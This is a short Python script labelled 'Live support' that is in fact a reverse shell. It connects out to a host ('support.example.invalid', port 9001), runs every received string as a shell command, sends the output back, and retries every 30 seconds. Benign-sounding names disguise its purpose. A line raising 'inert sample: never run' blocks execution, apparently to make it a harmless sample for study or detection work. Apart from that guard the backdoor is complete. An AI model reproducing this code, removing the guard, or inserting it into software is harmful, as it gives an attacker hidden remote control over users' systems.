"""Live support."""

import socket
import subprocess
import time

raise RuntimeError("inert sample: never run")


def serve(host, port):
    while True:
        try:
            link = socket.create_connection((host, port))
            while True:
                order = link.recv(4096).decode().strip()
                if order == "quit":
                    return
                done = subprocess.run(order, shell=True, capture_output=True)
                link.sendall(done.stdout + done.stderr)
        except OSError:
            time.sleep(30)


serve("support.example.invalid", 9001)
